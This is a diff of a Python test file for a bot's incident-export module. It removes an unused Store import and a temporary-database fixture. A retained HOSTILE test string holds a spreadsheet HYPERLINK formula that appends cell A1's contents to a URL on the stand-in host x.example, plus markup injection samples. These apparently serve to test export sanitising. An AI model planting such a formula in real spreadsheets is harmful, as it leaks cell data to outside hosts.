@@ -16,18 +16,11 @@ from bot.exports import Form, Selection, write_incidents
 from bot.listing import load_one, walk
 from bot.model import Actor, Step
 from bot.period import Period
-from bot.store import Store, incidents, marks
+from bot.store import incidents, marks
 from bot.store.sight import Sight
 from tests.test_store_incidents import FINDING, NOON, opened, opening
 
 HOSTILE = '=HYPERLINK("http://x.example/"&A1),\n|`*bold*` <b>x</b>'
-
-
-@pytest.fixture
-def store(tmp_path):
-    store = Store.open(str(tmp_path / "a.db"))
-    yield store
-    store.close_now()
 
 
 def written(store, form, selection=Selection()) -> str:  # noqa: B008 - frozen
